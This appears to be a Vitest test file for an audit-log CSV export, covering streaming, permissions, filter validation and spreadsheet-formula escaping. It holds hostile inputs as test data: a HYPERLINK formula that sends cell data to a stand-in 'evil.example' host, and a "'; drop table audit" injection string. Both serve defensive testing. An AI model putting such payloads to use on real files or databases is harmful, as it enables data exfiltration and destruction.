import { expect, describe, it } from 'vitest'
import { cliActor, stranger, type Actor } from '#domain/actor.ts'
import { auditCsv } from '#domain/audit/csv.ts'
import { readAudit } from '#domain/audit/desk.ts'
import { exportAudit } from '#domain/audit/export.ts'
import type { AuditFilter } from '#domain/audit/filter.ts'
import { execute } from '#domain/execute.ts'
import { Forbidden } from '#domain/refusal.ts'
import { asking, NOON } from '#tests/asking.ts'
import { anEntry, writeEntries } from '#tests/audit-rows.ts'
import { useFreshDatabase } from '#tests/database.ts'

const actor = cliActor('chen')

async function csvOf(filter: AuditFilter = {}): Promise<{ text: string; pieces: number }> {
  const pieces: string[] = []
  for await (const piece of auditCsv(actor, filter, 'en')) pieces.push(piece)
  return { text: pieces.join(''), pieces: pieces.length }
}

describe('the audit as a file', () => {
  useFreshDatabase()

  it('has a name for each column, times in UTC and canonical JSON', async () => {
    const before = { b: [1, { d: 'x', c: null }], a: 'He said “no”, "maybe"\nor yes' }
    await writeEntries([
      anEntry({
        at: NOON + 7,
        actor: { kind: 'staff', uid: 'u', name: '李明' },
        requestId: 'r',
        before,
        after: null,
      }),
    ])
    const { text } = await csvOf()
    expect(text.startsWith('\ufeff"id","at","command",')).toBe(true)
    const [names, cells, ...rest] = parsed(text.slice(1))
    expect(rest).toEqual([])
    const row = Object.fromEntries(names!.map((name, at) => [name, cells![at]]))
    expect(row).toEqual({
      ...{ id: '1', at: '2026-11-20T04:00:00.007Z', command: 'article.save', outcome: 'done', reason: '' },
      ...{ actor_kind: 'staff', actor_uid: 'u', actor_name: '李明', origin: '127.0.0.1', request_id: 'r' },
      ...{ subject_kind: '', subject_id: '', subject: '', after: '' },
      before: '{"a":"He said “no”, \\"maybe\\"\\nor yes","b":[1,{"c":null,"d":"x"}]}',
    })
  })

  it.each(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])(
    'is no formula where a name begins with %j',
    async (sign) => {
      const name = `${sign}HYPERLINK("http://evil.example?"&A1,"look")`
      await writeEntries([
        anEntry({
          origin: name,
          reason: name,
          actor: { kind: 'cli', uid: null, name },
          requestId: `${sign}1+1`,
        }),
      ])
      const [, cells] = parsed((await csvOf()).text.slice(1))
      expect(cells!.filter((cell) => cell === `'${name}`)).toHaveLength(3)
      expect(cells).toContain(`'${sign}1+1`)
      expect(cells!.filter((cell) => cell.startsWith(sign))).toEqual([])
    },
  )

  it('holds what the filter leaves, all of it, in pieces', async () => {
    const many = Array.from({ length: 5000 }, (_, at) =>
      anEntry({
        at: NOON + Math.floor(at / 3),
        requestId: `r${at}`,
        after: { words: '🚀 钢铁 '.repeat(at % 50) },
      }),
    )
    await writeEntries([...many, anEntry({ command: 'session.signIn', requestId: 'other' })])
    const { text, pieces } = await csvOf({ command: 'article' })
    const rows = parsed(text.slice(1))
    expect(rows.slice(1).map((cells) => cells.at(-1))).toEqual(many.map((one) => one.requestId).reverse())
    expect(rows.every((cells) => cells.length === rows[0]!.length)).toBe(true)
    expect(pieces).toBeGreaterThan(20)
    expect(parsed((await csvOf({ command: 'session.signIn' })).text.slice(1))).toHaveLength(2)
  })

  it('ends, however much is written while it is taken', async () => {
    await writeEntries(Array.from({ length: 450 }, (_, at) => anEntry({ requestId: `r${at}` })))
    const requests: (string | undefined)[] = []
    for await (const piece of auditCsv(actor, {}, 'en')) {
      requests.push(...parsed(piece.replace('\ufeff', '')).map((cells) => cells.at(-1)))
      await writeEntries(Array.from({ length: 300 }, () => anEntry({ at: NOON + 1, requestId: 'later' })))
    }
    const taken = requests.filter((one) => one?.startsWith('r') && one !== 'request_id')
    expect(taken).toEqual(Array.from({ length: 450 }, (_, at) => `r${449 - at}`))
  })

  it('with nothing in it has its heads', async () => {
    expect(parsed((await csvOf()).text.slice(1))).toHaveLength(1)
  })

  it('is for those who may, and its taking is an entry with the filter', async () => {
    const editor: Actor = { kind: 'staff', uid: 'e', name: 'E', grants: [{ capability: 'article:edit' }] }
    for (const mayNot of [stranger, editor, { ...actor, disabled: true }]) {
      expect(() => auditCsv(mayNot, {}, 'en')).toThrow(Forbidden)
      await expect(execute(exportAudit, {}, asking(0, { actor: mayNot }))).rejects.toThrow(Forbidden)
    }
    const filter: AuditFilter = { person: 'cli', command: 'audit.export', outcome: 'done', from: 0 }
    expect(await execute(exportAudit, filter, asking(1))).toEqual({ ok: true, result: {} })
    const { entries } = await readAudit(actor, filter, { limit: 5, locale: 'en' })
    expect(entries).toMatchObject([{ command: 'audit.export', actor: { name: 'tester' }, after: filter }])
    expect(parsed((await csvOf(filter)).text.slice(1))).toHaveLength(2)
    expect((await csvOf({ command: 'audit.export', outcome: 'forbidden' })).text).toContain('"audit:read"')
  })

  it('refuses a filter that is none', async () => {
    for (const filter of [
      { outcome: 'perhaps' },
      { command: 'article.' },
      { command: "'; drop table audit" },
      { person: 'x'.repeat(37) },
      { subject: { kind: 'article', id: -1 } },
      { from: 1.5 },
      { origin: 'a\0b' },
      { nonsense: 1 },
    ]) {
      expect(await execute(exportAudit, filter as AuditFilter, asking())).toMatchObject({
        ok: false,
        refusal: { key: 'input' },
      })
    }
  })
})

/** Cells of a CSV text in which every cell is in quotes (RFC 4180). */
function parsed(text: string): string[][] {
  const records = text.match(/(?:"(?:[^"]|"")*",?)+\r\n/g) ?? []
  expect(records.join('')).toBe(text)
  return records.map((record) =>
    [...record.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) => cell!.replaceAll('""', '"')),
  )
}
